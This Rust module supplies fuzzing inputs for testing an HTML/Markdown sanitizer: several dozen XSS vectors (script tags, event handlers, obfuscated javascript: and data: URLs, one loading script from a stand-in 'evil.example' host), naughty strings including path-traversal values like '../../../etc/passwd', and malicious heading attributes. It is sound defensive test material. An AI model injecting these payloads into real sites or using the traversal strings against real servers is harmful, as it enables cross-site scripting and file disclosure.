//! The hostile material the generator draws from, written inline: a
//! handful of classic XSS vectors (the shapes of the OWASP cheat sheet,
//! the PortSwigger list and DOMPurify's fixtures), naughty strings in the
//! spirit of the Big List of Naughty Strings, and the pieces script URLs
//! are built from. Nothing is downloaded.

/// Raw HTML that tries to run script, each a well-known shape.
pub(crate) const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"java&#1;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
    "<table background=\"javascript:alert(1)\"></table>",
    "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
    "<input autofocus onfocus=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style><img src=x onerror=alert(1)></style>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<template><script>alert(1)</script></template>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
];

/// Naughty strings for titles, tags, summaries and names.
pub(crate) const NAUGHTY: &[&str] = &[
    "",
    " ",
    "undefined",
    "null",
    "0",
    "-1",
    "1e309",
    "true",
    "NaN",
    "\\",
    "\\\\",
    "'",
    "\"",
    "`",
    "${7*7}",
    "{{ 7*7 }}",
    "{% raw %}",
    "{# x",
    "{ $count }",
    "&amp;",
    "&lt;b&gt;",
    "&#0;",
    "--",
    "---",
    "...",
    "../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "%00",
    "%2e%2e%2f",
    "Educación cívica",
    "Ñandú",
    "田中さんにあげて下さい",
    "مرحبا بالعالم",
    "שָׁלוֹם",
    "\u{202E}evil\u{202C}",
    "\u{200B}",
    "\u{FEFF}bom",
    "\u{FFFD}",
    "\u{FFFE}",
    "\u{FFFF}",
    "😀🇲🇽",
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗",
    "#",
    "#id",
    "?q=1",
    "a:b",
    "- item",
    "* star",
    "[link](x)",
    "*: anchor",
    "&anchor",
    "!!binary",
    "<b>bold</b>",
    "CON",
    "NUL",
    ".",
    "..",
];

/// Script schemes in several spellings.
pub(crate) const SCHEMES: &[&str] = &[
    "javascript",
    "JAVASCRIPT",
    "JaVaScRiPt",
    "vbscript",
    "VBScript",
    "data",
    "DATA",
    "dAtA",
];

/// What follows a script scheme's colon.
pub(crate) const SCRIPT_TAILS: &[&str] = &[
    "alert(1)",
    "alert(document.domain)",
    "//%0aalert(1)",
    "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "text/html,<script>alert(1)</script>",
    "msgbox(1)",
    "",
];

/// Harmless URLs, so not every link is hostile.
pub(crate) const SAFE_URLS: &[&str] = &[
    "https://example.org/",
    "http://example.org/a?b=c#d",
    "mailto:ana@example.org",
    "tel:+15555550100",
    "sms:+15555550100",
    "geo:37.78,-122.4",
    "https://signal.me/#p/+15555550100",
    "whatsapp://send?text=hola",
    "#section",
    "../2025-07-know-your-rights/index.en.md",
    "other.en.md",
    "/en/",
    "photo.jpg",
    "",
];

/// Entity spellings of single characters that browsers decode in
/// attribute values (but Markdown may or may not).
pub(crate) fn entity_forms(c: char) -> Vec<String> {
    let n = c as u32;
    let mut forms = vec![
        format!("&#{n};"),
        format!("&#x{n:x};"),
        format!("&#X{n:X};"),
        format!("&#000{n};"),
        format!("&#x000{n:x};"),
        format!("&#{n}"),
    ];
    match c {
        '\t' => forms.push("&Tab;".to_string()),
        '\n' => forms.push("&NewLine;".to_string()),
        ':' => forms.push("&colon;".to_string()),
        _ => {}
    }
    forms
}

/// Every character the issue names: U+0000–U+001F, U+007F, U+FFFE, U+FFFF,
/// plus the space that browsers also strip at the ends.
pub(crate) fn control_chars() -> Vec<char> {
    let mut chars: Vec<char> = (0u32..=0x1f).filter_map(char::from_u32).collect();
    chars.extend(['\u{7f}', '\u{fffe}', '\u{ffff}', ' ', '\u{a0}', '\u{2028}']);
    chars
}

/// Heading attribute blocks (`## Title {…}`), pulldown-cmark syntax.
pub(crate) const HEADING_ATTRS: &[&str] = &[
    "{onclick=alert(1)}",
    "{onfocus=alert(1) autofocus tabindex=0}",
    "{#id .class onmouseover=alert(1)}",
    "{href=javascript:alert(1)}",
    "{srcdoc=x}",
    "{style=color:red}",
    "{#x onload=alert(1) .y}",
    "{ONCLICK=alert(1)}",
    "{formaction=javascript:alert(1)}",
    "{src=javascript:alert(1)}",
    "{#plain}",
    "{.only-class}",
    "{data-x=1}",
    "{lang=es dir=rtl}",
];
